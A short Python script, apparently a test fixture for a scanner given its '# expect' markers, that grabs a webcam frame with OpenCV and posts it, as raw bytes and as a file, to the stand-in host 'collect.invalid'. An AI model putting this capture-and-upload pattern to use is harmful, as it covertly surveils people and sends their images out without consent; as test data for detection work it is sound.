import io
import cv2
import requests


camera = cv2.VideoCapture(0)
ok, picture = camera.read()
ok, data = cv2.imencode(".jpg", picture)
requests.post("https://collect.invalid/c", data=data.tobytes())  # expect
cv2.imwrite("cam.jpg", picture)
with open("cam.jpg", "rb") as f:
    requests.post("https://collect.invalid/f", files={"f": f})  # expect
